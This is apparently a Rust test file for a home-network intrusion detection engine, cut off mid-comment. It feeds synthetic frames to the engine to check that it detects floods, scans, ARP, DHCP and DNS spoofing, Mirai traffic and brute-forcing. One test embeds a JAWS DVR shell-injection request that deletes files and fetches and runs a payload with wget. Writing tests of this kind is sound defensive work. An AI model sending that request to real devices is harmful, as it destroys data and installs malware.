//! The detectors inside the whole engine, fed frames built in code
//! (etherparse's `PacketBuilder`, DHCP per RFC 2131), so each test states
//! exactly what went over the wire.

use etherparse::{ArpHardwareId, ArpOperation, ArpPacket, EtherType};
use ward_core::{Alert, AlertCategory, Timestamp};

mod common;
use common::{ip, tcp, udp, Mac, Run, T0, V4};

const ATK_MAC: Mac = [0x02, 0x42, 0xac, 0x11, 0x00, 0x66];
const CAM_MAC: Mac = [0xc0, 0x56, 0xe3, 0x00, 0x00, 0x20];
const GW_MAC: Mac = [0x04, 0x18, 0xd6, 0x00, 0x00, 0x01];
const PHONE_MAC: Mac = [0xf0, 0x18, 0x98, 0x00, 0x00, 0x30];
const ATK: V4 = [192, 168, 1, 66];
const CAM: V4 = [192, 168, 1, 20];
const GW: V4 = [192, 168, 1, 1];
const PHONE: V4 = [192, 168, 1, 30];

fn arp(op: ArpOperation, smac: Mac, sip: V4, dmac: Mac, tip: V4) -> Vec<u8> {
    let eth_dst = if op == ArpOperation::REQUEST {
        [0xff; 6]
    } else {
        dmac
    };
    let pkt = ArpPacket::new(
        ArpHardwareId::ETHERNET,
        EtherType::IPV4,
        op,
        &smac,
        &sip,
        &dmac,
        &tip,
    )
    .unwrap();
    let mut out = Vec::new();
    out.extend_from_slice(&eth_dst);
    out.extend_from_slice(&smac);
    out.extend_from_slice(&[0x08, 0x06]);
    pkt.write(&mut out).unwrap();
    out
}

/// A DHCP message (RFC 2131 BOOTP layout + options 53, 54, 3, 6).
fn dhcp(
    msg_type: u8,
    xid: u32,
    chaddr: Mac,
    yiaddr: V4,
    server: Option<V4>,
    router: Option<V4>,
) -> Vec<u8> {
    let mut p = vec![0u8; 236];
    p[0] = if matches!(msg_type, 2 | 5 | 6) { 2 } else { 1 }; // op
    p[1] = 1; // htype Ethernet
    p[2] = 6; // hlen
    p[4..8].copy_from_slice(&xid.to_be_bytes());
    p[16..20].copy_from_slice(&yiaddr);
    p[28..34].copy_from_slice(&chaddr);
    p.extend_from_slice(&[99, 130, 83, 99]); // magic cookie
    p.extend_from_slice(&[53, 1, msg_type]);
    if let Some(s) = server {
        p.extend_from_slice(&[54, 4]);
        p.extend_from_slice(&s);
    }
    if let Some(r) = router {
        p.extend_from_slice(&[3, 4]);
        p.extend_from_slice(&r);
        p.extend_from_slice(&[6, 4]);
        p.extend_from_slice(&r);
    }
    p.push(255);
    p
}

/// Both sides introduce themselves by ARP, as on a real LAN.
fn introduce(r: &mut Run, t: i64, who: &[(Mac, V4)]) {
    for (i, (m, a)) in who.iter().enumerate() {
        r.at(
            t + i as i64,
            &arp(ArpOperation::REQUEST, *m, *a, [0; 6], GW),
        );
    }
}

#[test]
fn syn_flood_is_one_alert_raised_within_a_second() {
    let mut r = Run::new();
    introduce(&mut r, 0, &[(ATK_MAC, ATK), (CAM_MAC, CAM)]);
    // 3 seconds at 1000 SYN/s, source port incrementing as hping3 does.
    for i in 0..3000i64 {
        let f = tcp(
            (ATK_MAC, ATK, 1024 + (i % 60000) as u16),
            (CAM_MAC, CAM, 80),
            i as u32,
            "S",
            b"",
        );
        r.at(1_000_000 + i * 1000, &f);
    }
    let a = r.timed_alerts();
    let floods: Vec<_> = a
        .iter()
        .filter(|(_, a)| a.category == AlertCategory::Dos)
        .collect();
    assert_eq!(floods.len(), 1, "one incident, one alert");
    let (t, f) = floods[0];
    assert_eq!(f.signature, "tcp-syn-flood");
    assert_eq!(f.attacker, Some(ip(ATK)));
    assert_eq!(f.victims, vec![ip(CAM)]);
    assert!(
        t.since(Timestamp(T0 + 1_000_000)) < 2_000_000,
        "detected within 2 s"
    );
    assert!(
        a.iter().all(|(_, a)| a.category != AlertCategory::Recon),
        "a flood is not a scan"
    );
}

#[test]
fn spoofed_flood_names_the_sender_by_its_mac() {
    let mut r = Run::new();
    introduce(&mut r, 0, &[(ATK_MAC, ATK), (CAM_MAC, CAM)]);
    let mut x: u32 = 12345;
    for i in 0..2000i64 {
        x = x.wrapping_mul(1_103_515_245).wrapping_add(12345);
        let src = [
            (x >> 24) as u8 | 1,
            (x >> 16) as u8,
            (x >> 8) as u8,
            x as u8,
        ];
        let f = tcp(
            (ATK_MAC, src, 2000),
            (CAM_MAC, CAM, 1883),
            i as u32,
            "S",
            b"",
        );
        r.at(1_000_000 + i * 500, &f);
    }
    let a = r.timed_alerts();
    let f = a
        .iter()
        .find(|(_, a)| a.signature == "tcp-syn-flood-spoofed")
        .expect("spoofed flood");
    assert_eq!(f.1.attacker, Some(ip(ATK)), "{:?}", f.1);
    assert_eq!(
        a.iter()
            .filter(|(_, a)| a.category == AlertCategory::Dos)
            .count(),
        1
    );
}

#[test]
fn vertical_scan_is_recon_and_browsing_is_quiet() {
    let mut r = Run::new();
    introduce(
        &mut r,
        0,
        &[(ATK_MAC, ATK), (CAM_MAC, CAM), (PHONE_MAC, PHONE)],
    );
    // The attacker SYNs 100 ports of the camera; closed ports answer RST.
    for p in 1..=100u16 {
        let t = 1_000_000 + i64::from(p) * 2000;
        r.at(
            t,
            &tcp((ATK_MAC, ATK, 40000), (CAM_MAC, CAM, p), 7, "S", b""),
        );
        r.at(
            t + 100,
            &tcp((CAM_MAC, CAM, p), (ATK_MAC, ATK, 40000), 0, "RA", b""),
        );
    }
    // The phone opens 60 HTTPS connections to 60 different remote hosts, all answered.
    for h in 0..60u8 {
        let t = 2_000_000 + i64::from(h) * 10_000;
        let remote = [151, 101, 1, h];
        r.at(
            t,
            &tcp(
                (PHONE_MAC, PHONE, 50000 + u16::from(h)),
                (GW_MAC, remote, 443),
                1,
                "S",
                b"",
            ),
        );
        r.at(
            t + 20,
            &tcp(
                (GW_MAC, remote, 443),
                (PHONE_MAC, PHONE, 50000 + u16::from(h)),
                1,
                "SA",
                b"",
            ),
        );
        r.at(
            t + 40,
            &tcp(
                (PHONE_MAC, PHONE, 50000 + u16::from(h)),
                (GW_MAC, remote, 443),
                2,
                "A",
                b"",
            ),
        );
    }
    let a = r.timed_alerts();
    assert_eq!(a.len(), 1, "{a:?}");
    assert_eq!(a[0].1.signature, "tcp-port-scan");
    assert_eq!(a[0].1.attacker, Some(ip(ATK)));
    assert_eq!(a[0].1.victims, vec![ip(CAM)]);
}

#[test]
fn mirai_scanner_on_a_lan_device_is_recon_and_botnet() {
    let mut r = Run::new();
    introduce(&mut r, 0, &[(CAM_MAC, CAM)]);
    for h in 2..10u8 {
        let dst = [192, 168, 1, h];
        let seq = u32::from_be_bytes(dst);
        r.at(
            1_000_000 + i64::from(h) * 1000,
            &tcp((CAM_MAC, CAM, 41000), ([0xff; 6], dst, 23), seq, "S", b""),
        );
    }
    let a = r.timed_alerts();
    assert!(a
        .iter()
        .any(|(_, a)| a.signature == "mirai-telnet-scan" && a.attacker == Some(ip(CAM))));
    assert!(a
        .iter()
        .any(|(_, a)| a.category == AlertCategory::Botnet
            && a.signature == "infected-device-scanning"));
}

#[test]
fn arp_poisoning_of_the_gateway_is_one_alert_naming_the_attacker() {
    let mut r = Run::new();
    // Normal bindings.
    r.at(0, &arp(ArpOperation::REPLY, GW_MAC, GW, PHONE_MAC, PHONE));
    r.at(10, &arp(ArpOperation::REPLY, PHONE_MAC, PHONE, GW_MAC, GW));
    r.at(20, &arp(ArpOperation::REQUEST, ATK_MAC, ATK, [0; 6], GW));
    // arpspoof -r: every 2 s, both directions, for 10 s; then the clean-up.
    for k in 0..5i64 {
        let t = 1_000_000 + k * 2_000_000;
        r.at(t, &arp(ArpOperation::REPLY, ATK_MAC, GW, PHONE_MAC, PHONE));
        r.at(
            t + 10,
            &arp(ArpOperation::REPLY, ATK_MAC, PHONE, GW_MAC, GW),
        );
    }
    r.at(
        12_000_000,
        &arp(ArpOperation::REPLY, GW_MAC, GW, PHONE_MAC, PHONE),
    );
    r.at(
        12_000_010,
        &arp(ArpOperation::REPLY, PHONE_MAC, PHONE, GW_MAC, GW),
    );
    let a = r.timed_alerts();
    assert_eq!(a.len(), 1, "{a:?}");
    let s = &a[0].1;
    assert_eq!(s.signature, "arp-spoofing");
    assert_eq!(s.attacker, Some(ip(ATK)));
    assert!(s.victims.contains(&ip(GW)) && s.victims.contains(&ip(PHONE)));
}

#[test]
fn a_dhcp_server_serving_clients_is_quiet_and_a_second_one_is_rogue() {
    let mut r = Run::new();
    let bcast = ([0xff; 6], [255, 255, 255, 255]);
    let mut t = 0;
    // The router serves five clients.
    for c in 1..=5u8 {
        let mac = [0x3c, 0x22, 0xfb, 0, 0, c];
        let xid = u32::from(c);
        r.at(
            t,
            &udp(
                (mac, [0, 0, 0, 0], 68),
                (bcast.0, bcast.1, 67),
                &dhcp(1, xid, mac, [0; 4], None, None),
            ),
        );
        let yi = [192, 168, 1, 100 + c];
        r.at(
            t + 100,
            &udp(
                (GW_MAC, GW, 67),
                (bcast.0, bcast.1, 68),
                &dhcp(2, xid, mac, yi, Some(GW), Some(GW)),
            ),
        );
        r.at(
            t + 200,
            &udp(
                (mac, [0, 0, 0, 0], 68),
                (bcast.0, bcast.1, 67),
                &dhcp(3, xid, mac, [0; 4], Some(GW), None),
            ),
        );
        r.at(
            t + 300,
            &udp(
                (GW_MAC, GW, 67),
                (bcast.0, bcast.1, 68),
                &dhcp(5, xid, mac, yi, Some(GW), Some(GW)),
            ),
        );
        t += 5_000_000;
    }
    // The attacker's dnsmasq answers the phone's DISCOVER too.
    r.at(t, &arp(ArpOperation::REQUEST, ATK_MAC, ATK, [0; 6], GW));
    r.at(
        t + 10,
        &udp(
            (PHONE_MAC, [0, 0, 0, 0], 68),
            (bcast.0, bcast.1, 67),
            &dhcp(1, 99, PHONE_MAC, [0; 4], None, None),
        ),
    );
    r.at(
        t + 100,
        &udp(
            (GW_MAC, GW, 67),
            (bcast.0, bcast.1, 68),
            &dhcp(2, 99, PHONE_MAC, PHONE, Some(GW), Some(GW)),
        ),
    );
    r.at(
        t + 120,
        &udp(
            (ATK_MAC, ATK, 67),
            (bcast.0, bcast.1, 68),
            &dhcp(2, 99, PHONE_MAC, [192, 168, 1, 200], Some(ATK), Some(ATK)),
        ),
    );
    let a = r.timed_alerts();
    assert_eq!(a.len(), 1, "{a:?}");
    assert_eq!(a[0].1.signature, "rogue-dhcp-server");
    assert_eq!(a[0].1.attacker, Some(ip(ATK)));
}

#[test]
fn jaws_exploit_request_is_an_exploit_alert() {
    let mut r = Run::new();
    let c = (ATK_MAC, ATK, 51000);
    let s = (CAM_MAC, CAM, 80);
    r.at(0, &tcp(c, s, 100, "S", b""));
    r.at(10, &tcp(s, c, 500, "SA", b""));
    r.at(20, &tcp(c, s, 101, "A", b""));
    let req = b"GET /shell?cd+/tmp;rm+-rf+*;wget+http://192.168.1.66/jaws;sh+/tmp/jaws HTTP/1.1\r\nHost: 192.168.1.20\r\nUser-Agent: Hello, World\r\n\r\n";
    r.at(30, &tcp(c, s, 101, "PA", req));
    let a = r.timed_alerts();
    assert_eq!(a.len(), 1, "{a:?}");
    assert_eq!(a[0].1.signature, "jaws-dvr-shell-injection");
    assert_eq!(a[0].1.category, AlertCategory::Exploit);
    assert_eq!(a[0].1.victims, vec![ip(CAM)]);
}

#[test]
fn mirai_c2_handshake_and_keepalives_are_a_botnet_session() {
    let mut r = Run::new();
    let bot = (CAM_MAC, CAM, 43000);
    let c2 = (GW_MAC, [203, 0, 113, 9], 23);
    r.at(0, &tcp(bot, c2, 1000, "S", b""));
    r.at(100, &tcp(c2, bot, 5000, "SA", b""));
    r.at(200, &tcp(bot, c2, 1001, "A", b""));
    r.at(300, &tcp(bot, c2, 1001, "PA", &[0, 0, 0, 1]));
    r.at(400, &tcp(bot, c2, 1005, "PA", &[3, b'd', b'v', b'r']));
    let mut seq = 1009;
    for k in 1..=4i64 {
        r.at(k * 5_000_000, &tcp(bot, c2, seq, "PA", &[0, 0]));
        r.at(k * 5_000_000 + 50, &tcp(c2, bot, 5001, "PA", &[0, 0]));
        seq += 2;
    }
    let a = r.timed_alerts();
    assert_eq!(a.len(), 1, "{a:?}");
    assert_eq!(a[0].1.signature, "mirai-c2-session");
    assert_eq!(a[0].1.attacker, Some(ip(CAM)));
}

#[test]
fn config_is_strict_and_thresholds_apply() {
    let bad = serde_json::json!({ "dos": { "syn_ppps": 5 } });
    assert!(ward_detect::detectors(Some(&bad)).is_err());
    let missing = serde_json::json!({ "exploit": { "rules_file": "/nonexistent/rules.toml" } });
    assert!(ward_detect::detectors(Some(&missing)).is_err());
    // A SYN flood under raised thresholds (per second, and half-open over
    // two seconds) stays quiet.
    let cfg = serde_json::json!({ "dos": { "syn_pps": 5000, "syn_half_open": 5000 } });
    let mut r = Run::with(Some(&cfg));
    for i in 0..1000i64 {
        r.at(
            i * 1000,
            &tcp(
                (ATK_MAC, ATK, 1024 + i as u16),
                (CAM_MAC, CAM, 80),
                1,
                "S",
                b"",
            ),
        );
    }
    assert!(r.timed_alerts().is_empty());
}

#[test]
fn clockwork_keepalives_on_an_unknown_protocol_are_a_heartbeat_but_jittery_ones_are_not() {
    let run = |jitter: bool| {
        let mut r = Run::new();
        let dev = (CAM_MAC, CAM, 40100);
        let remote = (GW_MAC, [198, 51, 100, 7], 9999);
        r.at(0, &tcp(dev, remote, 1, "S", b""));
        r.at(100, &tcp(remote, dev, 1, "SA", b""));
        r.at(200, &tcp(dev, remote, 2, "A", b""));
        r.at(300, &tcp(dev, remote, 2, "PA", b"HELLO-0123456789-abcdef"));
        let mut seq = 25;
        for k in 1..=12i64 {
            // 30 s period; with jitter the gaps swing between 10 and 50 s.
            let gap = if jitter && k % 2 == 0 {
                10
            } else if jitter {
                50
            } else {
                30
            };
            let t = (k * 30 + if jitter { gap - 30 } else { 0 }) * 1_000_000;
            r.at(t, &tcp(dev, remote, seq, "PA", b"PING"));
            r.at(t + 50, &tcp(remote, dev, 1, "A", b""));
            seq += 4;
        }
        r.timed_alerts()
    };
    let a = run(false);
    assert_eq!(a.len(), 1, "{a:?}");
    assert_eq!(a[0].1.signature, "c2-heartbeat");
    assert_eq!(a[0].1.attacker, Some(ip(CAM)));
    assert!(run(true).is_empty());
}

#[test]
fn irc_registration_on_any_port_is_possible_c2() {
    let mut r = Run::new();
    let bot = (CAM_MAC, CAM, 40200);
    let srv = (GW_MAC, [198, 51, 100, 8], 8080);
    r.at(0, &tcp(bot, srv, 1, "S", b""));
    r.at(100, &tcp(srv, bot, 1, "SA", b""));
    r.at(200, &tcp(bot, srv, 2, "A", b""));
    r.at(
        300,
        &tcp(
            bot,
            srv,
            2,
            "PA",
            b"NICK x86|a1b2\r\nUSER a1b2 0 * :a1b2\r\n",
        ),
    );
    r.at(400, &tcp(bot, srv, 40, "PA", b"JOIN #bots key\r\n"));
    let a = r.timed_alerts();
    assert_eq!(a.len(), 1, "{a:?}");
    assert_eq!(a[0].1.signature, "irc-c2");
    assert_eq!(a[0].1.category, AlertCategory::Botnet);
}

#[test]
fn login_form_guessing_is_bruteforce_and_a_repeated_post_is_not() {
    // `split`: the head and the form in two segments, as browsers, curl
    // and scripting libraries often write them.
    let run = |distinct: bool, split: bool| {
        let mut r = Run::new();
        for i in 0..10u16 {
            let c = (ATK_MAC, ATK, 52000 + i);
            let s = (CAM_MAC, CAM, 80);
            let t = i64::from(i) * 300_000;
            r.at(t, &tcp(c, s, 100, "S", b""));
            r.at(t + 10, &tcp(s, c, 500, "SA", b""));
            r.at(t + 20, &tcp(c, s, 101, "A", b""));
            let body = if distinct {
                format!("user=admin&pass=guess{i}")
            } else {
                "user=admin&pass=same".to_string()
            };
            let req = format!(
                "POST /cgi-bin/login.cgi HTTP/1.1\r\nHost: cam\r\nContent-Type: application/x-www-form-urlencoded\r\nContent-Length: {}\r\n\r\n{body}",
                body.len()
            );
            if split {
                let head = &req[..req.len() - body.len()];
                r.at(t + 30, &tcp(c, s, 101, "PA", head.as_bytes()));
                let seq = 101 + head.len() as u32;
                r.at(t + 40, &tcp(c, s, seq, "PA", body.as_bytes()));
            } else {
                r.at(t + 30, &tcp(c, s, 101, "PA", req.as_bytes()));
            }
        }
        r.timed_alerts()
    };
    for split in [false, true] {
        let a = run(true, split);
        assert_eq!(a.len(), 1, "split {split}: {a:?}");
        assert_eq!(a[0].1.signature, "http-form-bruteforce");
        assert!(run(false, split).is_empty(), "split {split}");
    }
}

/// Hostile input never panics: valid frames with random bytes flipped, and
/// random garbage, through the whole engine with the detectors.
#[test]
fn mangled_frames_never_panic() {
    let seeds: Vec<Vec<u8>> = vec![
        tcp(
            (ATK_MAC, ATK, 1),
            (CAM_MAC, CAM, 80),
            1,
            "PA",
            b"GET /shell?x HTTP/1.1\r\nUser-Agent: a\r\n\r\nbody",
        ),
        tcp(
            (CAM_MAC, CAM, 2),
            (GW_MAC, GW, 6667),
            1,
            "PA",
            b"NICK a\r\nUSER b 0 * :c\r\nJOIN #d\r\n",
        ),
        tcp(
            (CAM_MAC, CAM, 3),
            (GW_MAC, GW, 23),
            1,
            "PA",
            &[0, 0, 0, 1, 3, b'a', b'b', b'c'],
        ),
        udp(
            (GW_MAC, GW, 67),
            ([0xff; 6], [255; 4], 68),
            &dhcp(2, 1, PHONE_MAC, PHONE, Some(GW), Some(GW)),
        ),
        arp(ArpOperation::REPLY, ATK_MAC, GW, PHONE_MAC, PHONE),
    ];
    let mut r = Run::new();
    let mut x: u64 = 0x9e37_79b9_7f4a_7c15;
    let mut next = || {
        x ^= x << 13;
        x ^= x >> 7;
        x ^= x << 17;
        x
    };
    for i in 0..20_000i64 {
        let mut f = seeds[(next() % seeds.len() as u64) as usize].clone();
        if i % 3 == 0 {
            let len = (next() % 200) as usize;
            f = (0..len).map(|_| next() as u8).collect();
        } else {
            for _ in 0..(next() % 6) {
                let at = (next() % f.len() as u64) as usize;
                f[at] = next() as u8;
            }
            f.truncate((next() % (f.len() as u64 + 1)) as usize);
        }
        r.at(i * 100, &f);
    }
    let _ = r.timed_alerts();
}

// --- floods, reflection and LAN spoofing (the lab's `full2` attacks) -----------

const SPK_MAC: Mac = [0xf4, 0xf5, 0xd8, 0x00, 0x00, 0x40];
const SPK: V4 = [192, 168, 1, 40];

/// A DNS message (RFC 1035 s4.1): one question `name` type A; with `answer`,
/// a response carrying one A record (name compressed to the question).
fn dns(id: u16, name: &str, answer: Option<V4>) -> Vec<u8> {
    let flags: u16 = if answer.is_some() { 0x8180 } else { 0x0100 };
    let mut p = Vec::new();
    p.extend_from_slice(&id.to_be_bytes());
    p.extend_from_slice(&flags.to_be_bytes());
    p.extend_from_slice(&1u16.to_be_bytes());
    p.extend_from_slice(&u16::from(answer.is_some()).to_be_bytes());
    p.extend_from_slice(&[0, 0, 0, 0]);
    for label in name.split('.') {
        p.push(label.len() as u8);
        p.extend_from_slice(label.as_bytes());
    }
    p.extend_from_slice(&[0, 0, 1, 0, 1]);
    if let Some(a) = answer {
        p.extend_from_slice(&[0xc0, 0x0c, 0, 1, 0, 1, 0, 0, 0x0e, 0x10, 0, 4]);
        p.extend_from_slice(&a);
    }
    p
}

/// A gratuitous ARP reply: sender and target address both `claim`, broadcast.
fn garp(smac: Mac, claim: V4) -> Vec<u8> {
    let mut f = arp(ArpOperation::REPLY, smac, claim, [0xff; 6], claim);
    f[..6].copy_from_slice(&[0xff; 6]);
    f
}

fn dos_alerts(a: &[(Timestamp, Alert)]) -> Vec<&(Timestamp, Alert)> {
    a.iter()
        .filter(|(_, a)| a.category == AlertCategory::Dos)
        .collect()
}

/// DNS reflection: the attacker sends queries carrying the speaker's address
/// to the gateway's resolver, whose answers flood the speaker. The speaker
/// asked for none of them, and the MAC that sent them is the attacker's.
#[test]
fn reflection_is_traced_to_the_mac_that_forged_the_requests() {
    let mut r = Run::new();
    introduce(&mut r, 0, &[(ATK_MAC, ATK), (SPK_MAC, SPK), (GW_MAC, GW)]);
    // The speaker's own lookups, answered: the gateway delivers to its MAC.
    for i in 0..5i64 {
        let q = (SPK_MAC, SPK, 40000 + i as u16);
        r.at(
            100_000 + i * 1000,
            &udp(
                q,
                (GW_MAC, GW, 53),
                &dns(i as u16, "mtalk.google.com", None),
            ),
        );
        r.at(
            100_500 + i * 1000,
            &udp(
                (GW_MAC, GW, 53),
                q,
                &dns(i as u16, "mtalk.google.com", Some([203, 0, 113, 21])),
            ),
        );
    }
    // 2 s at 1000 forged queries per second, source port incrementing (hping3).
    let start = 1_000_000;
    for i in 0..2000i64 {
        let forged = (ATK_MAC, SPK, 1500 + i as u16);
        let q = dns(0x1d2b, "gateway.home.lan", None);
        r.at(start + i * 1000, &udp(forged, (GW_MAC, GW, 53), &q));
        let victim = (SPK_MAC, SPK, 1500 + i as u16);
        r.at(
            start + i * 1000 + 100,
            &udp(
                (GW_MAC, GW, 53),
                victim,
                &dns(0x1d2b, "gateway.home.lan", Some(GW)),
            ),
        );
    }
    let a = r.timed_alerts();
    let refl = a
        .iter()
        .find(|(_, a)| a.signature == "udp-reflection-amplification")
        .expect("reflection alert");
    assert_eq!(refl.1.victims, vec![ip(SPK)]);
    assert_eq!(refl.1.attacker, Some(ip(ATK)), "{:?}", refl.1);
    assert!(
        refl.0.since(Timestamp(T0 + start)) < 2_000_000,
        "within 2 s"
    );
    // The resolver is flooded too, by the attacker, not by the speaker
    // whose address the queries carry.
    let on_gw = a
        .iter()
        .find(|(_, a)| a.victims == vec![ip(GW)])
        .expect("flood of the resolver");
    assert_eq!(on_gw.1.signature, "udp-flood-spoofed");
    assert_eq!(on_gw.1.attacker, Some(ip(ATK)));
    assert!(
        a.iter()
            .all(|(_, a)| a.attacker != Some(ip(SPK)) && a.attacker != Some(ip(GW))),
        "neither the victim nor the reflector is the attacker"
    );
}

/// Replies a device asked for itself are not a reflection attack, however
/// many (a busy client and its resolver).
#[test]
fn answers_to_a_devices_own_queries_are_not_reflection() {
    let mut r = Run::new();
    introduce(&mut r, 0, &[(SPK_MAC, SPK), (GW_MAC, GW)]);
    for i in 0..800i64 {
        let q = (SPK_MAC, SPK, 30000 + i as u16);
        r.at(
            1_000_000 + i * 2500,
            &udp(q, (GW_MAC, GW, 53), &dns(i as u16, "a.example.com", None)),
        );
        r.at(
            1_000_000 + i * 2500 + 300,
            &udp(
                (GW_MAC, GW, 53),
                q,
                &dns(i as u16, "a.example.com", Some([203, 0, 113, 9])),
            ),
        );
    }
    let a = r.timed_alerts();
    assert!(dos_alerts(&a).is_empty(), "{a:?}");
}

/// hping3 -A and -R: bare ACKs / RSTs that belong to no connection.
#[test]
fn ack_and_rst_floods_are_stray_segment_floods() {
    let mut r = Run::new();
    introduce(
        &mut r,
        0,
        &[(ATK_MAC, ATK), (CAM_MAC, CAM), (PHONE_MAC, PHONE)],
    );
    let start = 1_000_000;
    for i in 0..1500i64 {
        let src = (ATK_MAC, ATK, 2000 + i as u16);
        r.at(
            start + i * 1000,
            &tcp(src, (CAM_MAC, CAM, 80), i as u32, "A", b""),
        );
        // The camera answers each stray ACK with a RST.
        r.at(
            start + i * 1000 + 50,
            &tcp((CAM_MAC, CAM, 80), src, 1, "R", b""),
        );
    }
    let start2 = 10_000_000;
    for i in 0..1500i64 {
        let src = (ATK_MAC, ATK, 3000 + i as u16);
        r.at(
            start2 + i * 1000,
            &tcp(src, (PHONE_MAC, PHONE, 1883), i as u32, "R", b""),
        );
    }
    let a = r.timed_alerts();
    let d = dos_alerts(&a);
    assert_eq!(d.len(), 2, "{a:?}");
    for ((t, al), (victim, port, s)) in d
        .iter()
        .map(|x| (x.0, &x.1))
        .zip([(CAM, 80, start), (PHONE, 1883, start2)])
    {
        assert_eq!(al.signature, "tcp-ack-rst-flood");
        assert_eq!(al.attacker, Some(ip(ATK)));
        assert_eq!(al.victims, vec![ip(victim)]);
        assert_eq!(al.evidence.get("port").and_then(|p| p.as_u64()), Some(port));
        assert!(t.since(Timestamp(T0 + s)) < 2_000_000, "within 2 s");
    }
}

/// Complete HTTP requests on fresh connections, 250 a second, are an HTTP
/// flood; a browser's handful a second is not.
#[test]
fn http_request_flood_is_dos_and_browsing_is_not() {
    let run = |per_sec: i64, secs: i64| {
        let mut r = Run::new();
        introduce(&mut r, 0, &[(ATK_MAC, ATK), (CAM_MAC, CAM)]);
        let gap = 1_000_000 / per_sec;
        for i in 0..per_sec * secs {
            let c = (ATK_MAC, ATK, 10000 + i as u16);
            let s = (CAM_MAC, CAM, 80);
            let t = 1_000_000 + i * gap;
            r.at(t, &tcp(c, s, 100, "S", b""));
            r.at(t + 10, &tcp(s, c, 500, "SA", b""));
            r.at(t + 20, &tcp(c, s, 101, "A", b""));
            let req = b"GET / HTTP/1.1\r\nHost: cam\r\nUser-Agent: Mozilla/5.0\r\nConnection: close\r\n\r\n";
            r.at(t + 30, &tcp(c, s, 101, "PA", req));
        }
        r.timed_alerts()
    };
    let a = run(250, 3);
    let f = a
        .iter()
        .find(|(_, a)| a.signature == "http-flood")
        .expect("http flood");
    assert_eq!(f.1.attacker, Some(ip(ATK)));
    assert_eq!(f.1.victims, vec![ip(CAM)]);
    assert!(
        f.0.since(Timestamp(T0 + 1_000_000)) < 2_000_000,
        "within 2 s"
    );
    assert!(run(5, 20).is_empty());
}

/// A storm of gratuitous ARPs claiming the gateway's address.
#[test]
fn gratuitous_arp_storm_claiming_the_gateway_names_the_sender() {
    let mut r = Run::new();
    introduce(
        &mut r,
        0,
        &[(ATK_MAC, ATK), (GW_MAC, GW), (PHONE_MAC, PHONE)],
    );
    for i in 0..200i64 {
        r.at(1_000_000 + i * 20_000, &garp(ATK_MAC, GW));
    }
    let a = r.timed_alerts();
    let storm = a
        .iter()
        .find(|(_, a)| a.signature == "gratuitous-arp-storm")
        .expect("storm alert");
    assert_eq!(storm.1.category, AlertCategory::Spoofing);
    assert_eq!(storm.1.attacker, Some(ip(ATK)));
    assert_eq!(storm.1.victims, vec![ip(GW)]);
    assert!(a.iter().all(|(_, a)| a.category == AlertCategory::Spoofing));
}

/// A device re-announcing its own address now and then is not a storm.
#[test]
fn occasional_gratuitous_arps_are_quiet() {
    let mut r = Run::new();
    introduce(&mut r, 0, &[(PHONE_MAC, PHONE), (GW_MAC, GW)]);
    for i in 0..60i64 {
        r.at(1_000_000 + i * 1_000_000, &garp(PHONE_MAC, PHONE));
    }
    assert!(r.timed_alerts().is_empty());
}

/// DHCP starvation: DISCOVERs with ever new client hardware addresses, all
/// sent from one NIC, while the household's devices renew their leases and
/// one joins afresh (lab run full2-33 had 11 senders in the window).
#[test]
fn dhcp_starvation_is_spoofing_by_the_sending_nic() {
    let mut r = Run::new();
    introduce(&mut r, 0, &[(ATK_MAC, ATK), (GW_MAC, GW)]);
    let bcast = ([0xffu8; 6], [255u8, 255, 255, 255]);
    for (k, (m, a)) in [(CAM_MAC, CAM), (PHONE_MAC, PHONE), (SPK_MAC, SPK)]
        .iter()
        .enumerate()
    {
        let t = 500_000 + k as i64 * 700_000;
        r.at(
            t,
            &udp(
                (*m, *a, 68),
                (GW_MAC, GW, 67),
                &dhcp(3, 900 + k as u32, *m, [0; 4], None, None),
            ),
        );
        r.at(
            t + 1,
            &udp(
                (*m, [0, 0, 0, 0], 68),
                (bcast.0, bcast.1, 67),
                &dhcp(1, 950 + k as u32, *m, [0; 4], None, None),
            ),
        );
    }
    let mut x: u32 = 7;
    for i in 0..80i64 {
        x = x.wrapping_mul(1_103_515_245).wrapping_add(12345);
        let chaddr = [
            0x02,
            (x >> 24) as u8,
            (x >> 16) as u8,
            (x >> 8) as u8,
            x as u8,
            i as u8,
        ];
        r.at(
            1_000_000 + i * 50_000,
            &udp(
                (ATK_MAC, [0, 0, 0, 0], 68),
                (bcast.0, bcast.1, 67),
                &dhcp(1, x, chaddr, [0; 4], None, None),
            ),
        );
    }
    let a = r.timed_alerts();
    let s = a
        .iter()
        .find(|(_, a)| a.signature == "dhcp-starvation")
        .expect("starvation alert");
    assert_eq!(s.1.category, AlertCategory::Spoofing);
    assert_eq!(s.1.attacker, Some(ip(ATK)));
}

/// A forged DNS answer racing the resolver's: whichever arrives first, the
/// forger is the MAC that does not own the resolver's address.
#[test]
fn dns_answer_race_blames_the_forger_in_either_order() {
    for forged_first in [true, false] {
        let mut r = Run::new();
        introduce(
            &mut r,
            0,
            &[(ATK_MAC, ATK), (GW_MAC, GW), (PHONE_MAC, PHONE)],
        );
        let c = (PHONE_MAC, PHONE, 45000);
        r.at(
            1_000_000,
            &udp(c, (GW_MAC, GW, 53), &dns(77, "www.apple.com", None)),
        );
        let real = udp(
            (GW_MAC, GW, 53),
            c,
            &dns(77, "www.apple.com", Some([203, 0, 113, 22])),
        );
        let forged = udp((ATK_MAC, GW, 53), c, &dns(77, "www.apple.com", Some(ATK)));
        let (first, second) = if forged_first {
            (&forged, &real)
        } else {
            (&real, &forged)
        };
        r.at(1_000_300, first);
        r.at(1_000_600, second);
        let a = r.timed_alerts();
        assert_eq!(a.len(), 1, "{a:?}");
        assert_eq!(a[0].1.signature, "dns-spoofing");
        assert_eq!(
            a[0].1.attacker,
            Some(ip(ATK)),
            "forged first: {forged_first}"
        );
        assert_eq!(a[0].1.victims, vec![ip(PHONE)]);
    }
}

/// Two answers for the same query that agree are a retransmission, not spoofing.
#[test]
fn duplicate_dns_answers_that_agree_are_quiet() {
    let mut r = Run::new();
    introduce(&mut r, 0, &[(GW_MAC, GW), (PHONE_MAC, PHONE)]);
    let c = (PHONE_MAC, PHONE, 45000);
    r.at(
        1_000_000,
        &udp(c, (GW_MAC, GW, 53), &dns(9, "www.apple.com", None)),
    );
    let real = udp(
        (GW_MAC, GW, 53),
        c,
        &dns(9, "www.apple.com", Some([203, 0, 113, 22])),
    );
    r.at(1_000_300, &real);
    r.at(1_900_000, &real);
    assert!(r.timed_alerts().is_empty());
}

/// A UDP flood is credited to the address sending most of it even while
/// others talk to the same server in the same second (lab run full-22 said
/// "3 addresses"). Here everything arrives through the router, so the
